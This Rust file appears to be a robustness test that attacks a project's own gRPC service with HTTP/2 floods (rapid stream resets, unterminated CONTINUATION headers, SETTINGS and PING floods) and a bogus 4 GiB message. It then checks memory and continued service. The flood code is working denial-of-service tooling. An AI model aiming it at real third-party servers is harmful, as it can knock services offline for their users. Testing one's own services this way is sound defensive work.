//! Frames of HTTP/2 that nobody should send, in floods: they are bounded, others are served, and the memory comes back.

use std::io;
use std::net::SocketAddr;
use std::time::{Duration, Instant};

use futures::future::join_all;
use perdiem::connect::Urls;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;

use crate::Victim;
use crate::silence::{MEMORY_MIB, Served, beside};

/// The service that is attacked.
pub const SERVICE: &str = "account-lifecycle";
/// Connections of an attack.
const CONNECTIONS: usize = 8;
/// Frames that are written at once.
const BURST: u32 = 64;
/// How soon a message that is too large is refused.
const REFUSED: Duration = Duration::from_secs(2);

/// Types of frames.
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
/// Flag of a frame after which no headers follow.
const END_HEADERS: u8 = 4;

/// A flood.
#[derive(Debug, Clone, Copy)]
enum Flood {
    /// Calls that are reset at once.
    Resets,
    /// Headers without an end.
    Continuations,
    /// Settings, each of which has to be acknowledged.
    Settings,
    /// Pings, each of which has to be answered.
    Pings,
}

/// Attacks in five ways, each for a time; gives the promises that were broken.
pub async fn attack(victim: &Victim, time: Duration) -> Vec<String> {
    let token = victim.suite.keys.person(&victim.owner).unwrap();
    let address: SocketAddr = Urls::address(victim.urls.of(SERVICE)).parse().unwrap();
    let usual = beside(victim, tokio::time::sleep(time)).await;
    let mut broken = floods(victim, address, &usual, time).await;
    match announced(address, &token).await {
        Ok(took) if took < REFUSED => println!("a message of 4 GiB was refused after {took:?}"),
        other => broken.push(format!("a message of 4 GiB was not refused: {other:?}")),
    }
    broken
}

/// Sends each flood for a time to a port of [`SERVICE`]; gives the promises that were broken.
pub async fn floods(
    victim: &Victim,
    address: SocketAddr,
    usual: &Served,
    time: Duration,
) -> Vec<String> {
    let mut broken = Vec::new();
    let token = victim.suite.keys.person(&victim.owner).unwrap();
    for flood in [
        Flood::Resets,
        Flood::Continuations,
        Flood::Settings,
        Flood::Pings,
    ] {
        let before = victim.memory_mib(SERVICE);
        let mut sent = Vec::new();
        let attack = async {
            let floods = (0..CONNECTIONS).map(|_| flooded(address, flood, &token, time));
            sent = join_all(floods).await;
        };
        let served = beside(victim, attack).await;
        let after = victim.memory_mib(SERVICE);
        let frames: u32 = sent.iter().map(|it| it.0).sum();
        let closed: u32 = sent.iter().map(|it| it.1).sum();
        println!(
            "{flood:?}: {frames} frames on {CONNECTIONS} connections, which were closed {closed} times; \
             memory {before} MiB before, {after} after"
        );
        if before + MEMORY_MIB < after {
            broken.push(format!(
                "{flood:?}: memory grew from {before} to {after} MiB"
            ));
        }
        if closed == 0 && matches!(flood, Flood::Resets | Flood::Continuations) {
            broken.push(format!("{flood:?}: {frames} frames closed no connection"));
        }
        broken.extend(served.judged(&format!("{flood:?}"), usual));
    }
    broken
}

/// Sends a flood for a time, on a new connection whenever one is closed; gives how many frames it sent, and how often
/// it was closed.
async fn flooded(address: SocketAddr, flood: Flood, token: &str, time: Duration) -> (u32, u32) {
    let begun = Instant::now();
    let (mut sent, mut closed) = (0, 0);
    while begun.elapsed() < time {
        let Ok(mut stream) = connected(address).await else {
            tokio::time::sleep(Duration::from_millis(10)).await;
            continue;
        };
        let mut number: u32 = 1;
        if matches!(flood, Flood::Continuations) {
            let start = frame(HEADERS, 0, number, &head(token));
            let _ = stream.write_all(&start).await;
        }
        while begun.elapsed() < time {
            let mut bytes = Vec::new();
            for _ in 0..BURST {
                match flood {
                    Flood::Resets => {
                        bytes.extend(frame(HEADERS, END_HEADERS, number, &head(token)));
                        bytes.extend(frame(RST_STREAM, 0, number, &8_u32.to_be_bytes()));
                        number += 2;
                    }
                    Flood::Continuations => {
                        let mut more = Vec::new();
                        literal(&mut more, "x", &"y".repeat(100));
                        bytes.extend(frame(CONTINUATION, 0, number, &more));
                    }
                    // The most concurrent streams: 100.
                    Flood::Settings => bytes.extend(frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100])),
                    Flood::Pings => bytes.extend(frame(PING, 0, 0, &[0; 8])),
                }
            }
            // Answers are not read: whoever has to send them has to hold them, or to stop reading.
            let write = stream.write_all(&bytes);
            match tokio::time::timeout(Duration::from_millis(200), write).await {
                Ok(Ok(())) => sent += BURST,
                Ok(Err(_)) => {
                    closed += 1;
                    break;
                }
                // It stopped reading: the rest is kept from it.
                Err(_) => tokio::time::sleep(time.saturating_sub(begun.elapsed())).await,
            }
        }
    }
    (sent, closed)
}

/// Announces a message of 4 GiB and sends nothing of it; gives how long the answer took.
async fn announced(address: SocketAddr, token: &str) -> io::Result<Duration> {
    let mut stream = connected(address).await?;
    let begun = Instant::now();
    let mut bytes = frame(HEADERS, END_HEADERS, 1, &head(token));
    bytes.extend(frame(DATA, 0, 1, &[0, 0xff, 0xff, 0xff, 0xff]));
    stream.write_all(&bytes).await?;
    let answered = async {
        loop {
            let mut start = [0; 9];
            stream.read_exact(&mut start).await?;
            let length = u32::from_be_bytes([0, start[0], start[1], start[2]]);
            let mut rest = vec![0; usize::try_from(length).unwrap()];
            stream.read_exact(&mut rest).await?;
            if start[3] == HEADERS {
                return io::Result::Ok(begun.elapsed());
            }
        }
    };
    tokio::time::timeout(2 * REFUSED, answered).await?
}

/// A connection that has begun.
async fn connected(address: SocketAddr) -> io::Result<TcpStream> {
    let mut stream = TcpStream::connect(address).await?;
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    bytes.extend(frame(SETTINGS, 0, 0, &[]));
    stream.write_all(&bytes).await?;
    Ok(stream)
}

/// A frame.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let mut bytes = length[1..].to_vec();
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

/// The headers of a call.
fn head(token: &str) -> Vec<u8> {
    // `:method: POST` and `:scheme: http`, of the static table.
    let mut head = vec![0x83, 0x86];
    for (name, value) in [
        (":path", "/perdiem.account.v1.AccountService/ListAccounts"),
        (":authority", "localhost"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
        ("authorization", &format!("Bearer {token}")),
    ] {
        literal(&mut head, name, value);
    }
    head
}

/// Adds a header whose name and value are spelt out and not remembered.
fn literal(head: &mut Vec<u8>, name: &str, value: &str) {
    head.push(0);
    for text in [name, value] {
        // An integer with a prefix of seven bits (RFC 7541, 5.1).
        let length = text.len();
        if let Some(short) = u8::try_from(length).ok().filter(|it| *it < 127) {
            head.push(short);
        } else {
            let rest = length - 127;
            head.push(127);
            if 128 <= rest {
                head.push(u8::try_from(rest % 128).unwrap() | 128);
            }
            let top = if 128 <= rest { rest / 128 } else { rest };
            head.push(u8::try_from(top).unwrap());
        }
        head.extend(text.as_bytes());
    }
}
